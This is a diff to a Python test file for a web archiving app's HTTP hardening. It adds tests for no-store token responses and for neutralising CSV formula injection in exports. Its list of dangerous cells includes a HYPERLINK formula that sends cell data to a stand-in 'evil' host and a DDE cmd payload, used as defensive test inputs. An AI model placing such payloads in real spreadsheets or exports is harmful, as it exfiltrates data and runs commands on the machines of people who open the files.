@@ -1,7 +1,8 @@
-"""HTTP hardening: security headers, no-store, huge JSON integers, owner-only SQLite files, and
-waitress's body limit with JSON errors."""
+"""HTTP hardening: security headers, no-store, CSV formula neutralisation, huge JSON integers,
+owner-only SQLite files, and waitress's body limit with JSON errors."""
 from __future__ import annotations
 
+import csv
 import io
 import os
 import socket
@@ -17,8 +18,8 @@ from archiver.extensions import db
 from archiver.serve import make_server
 from archiver.services import database
 from tests.archive_helpers import archived_record, insert_archived
-from tests.conftest import Databases, make_app
-from tests.test_auth import assert_error
+from tests.conftest import PASSWORD, Databases, make_app
+from tests.test_auth import assert_error, bearer, login
 
 SECURITY_HEADERS = {"X-Content-Type-Options": "nosniff", "X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer"}
 
@@ -41,6 +42,18 @@ def test_json_responses_carry_the_security_headers(client, accounts):
                  client.get("/auth/me")):
         assert_secure(resp)
     assert "Strict-Transport-Security" not in client.get("/health").headers  # plain HTTP
+
+
+def test_token_responses_are_no_store(client, accounts):
+    accounts.create("alice")
+    resp = login(client, "alice")
+    assert resp.status_code == 200 and resp.headers["Cache-Control"] == "no-store"
+    tokens = resp.get_json()
+    refreshed = client.post("/auth/refresh", headers=bearer(tokens["refresh_token"]))
+    assert refreshed.status_code == 200 and refreshed.headers["Cache-Control"] == "no-store"
+    changed = client.post("/auth/password", headers=bearer(refreshed.get_json()["access_token"]),
+                          json={"old_password": PASSWORD, "new_password": "yet-another-phrase"})
+    assert changed.status_code == 200 and changed.headers["Cache-Control"] == "no-store"
 
 
 def test_docs_page_allows_only_this_origin_and_has_no_inline_code(client):
@@ -86,10 +99,63 @@ def test_https_behind_a_trusted_proxy_gets_hsts(databases):
     assert "Strict-Transport-Security" not in plain.headers
 
 
+# --- CSV formula injection -----------------------------------------------------------------------------
+
+DANGEROUS = ["=HYPERLINK(\"http://evil\"&A2,\"Click me\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+             "\t=1+1", "\r=1+1", "=1"]
+PLAIN = ["-12.5", "+7", "-0", "1e5", "safe text", "", " =not first", "a=b"]
+
+
+@pytest.fixture
+def spreadsheet_rows(archive_engine):
+    rows = [{"id": i, "name": value, "n": -i} for i, value in enumerate(DANGEROUS + PLAIN, start=1)]
+    insert_archived(archive_engine, [archived_record("sheet", r) for r in rows])
+    return rows
+
+
+def csv_names(resp) -> list[str]:
+    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True), newline="")))
+    col = rows[0].index("payload.name")
+    return [r[col] for r in rows[1:]]
+
+
+def test_csv_export_neutralises_each_dangerous_prefix(client, accounts, spreadsheet_rows):
+    user = accounts.user("ann", tables=["sheet"])
+    resp = client.get("/archives/sheet/export", headers=user, query_string={"format": "csv"})
+    assert resp.status_code == 200
+    names = csv_names(resp)
+    assert names[:len(DANGEROUS)] == ["'" + v for v in DANGEROUS]
+    assert names[len(DANGEROUS):] == PLAIN  # numbers and harmless text are untouched
+    text = resp.get_data(as_text=True)
+    assert '"-1"' in text  # negative numbers stay numbers
+    for record in list(csv.reader(io.StringIO(text, newline="")))[1:]:
+        for cell in record:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell in PLAIN or cell.lstrip("-").isdigit()
+
+
+def test_raw_csv_is_exact_and_admin_only(client, accounts, spreadsheet_rows):
+    user = accounts.user("ann", tables=["sheet"])
+    for raw in ("1", "true"):
+        assert_error(client.get("/archives/sheet/export", headers=user, query_string={"format": "csv", "raw": raw}),
+                     403, "forbidden")
+    admin = accounts.admin("root")
+    resp = client.get("/archives/sheet/export", headers=admin, query_string={"format": "csv", "raw": "1"})
+    assert resp.status_code == 200
+    assert csv_names(resp) == DANGEROUS + PLAIN
+    assert client.get("/archives/sheet/export", headers=admin, query_string={"raw": "maybe"}).status_code == 400
+
+
+def test_json_lines_export_stays_lossless(client, accounts, spreadsheet_rows):
+    import json
+    user = accounts.user("ann", tables=["sheet"])
+    lines = client.get("/archives/sheet/export", headers=user).get_data(as_text=True).splitlines()
+    assert [json.loads(line)["payload"]["name"] for line in lines] == DANGEROUS + PLAIN
+
+
 # --- JSON that Python cannot turn into an int ----------------------------------------------------------------
 
 @pytest.mark.parametrize("chunked", [False, True])
-def test_a_4301_digit_integer_is_a_400(client, accounts, chunked):
+def test_a_4301_digit_integer_is_a_400(client, accounts, signup_enabled, chunked):
     admin = accounts.admin("root")
     huge = "9" * 4301
     for url, body, headers in (("/auth/login", '{"username": "a", "password": %s}' % huge, {}),
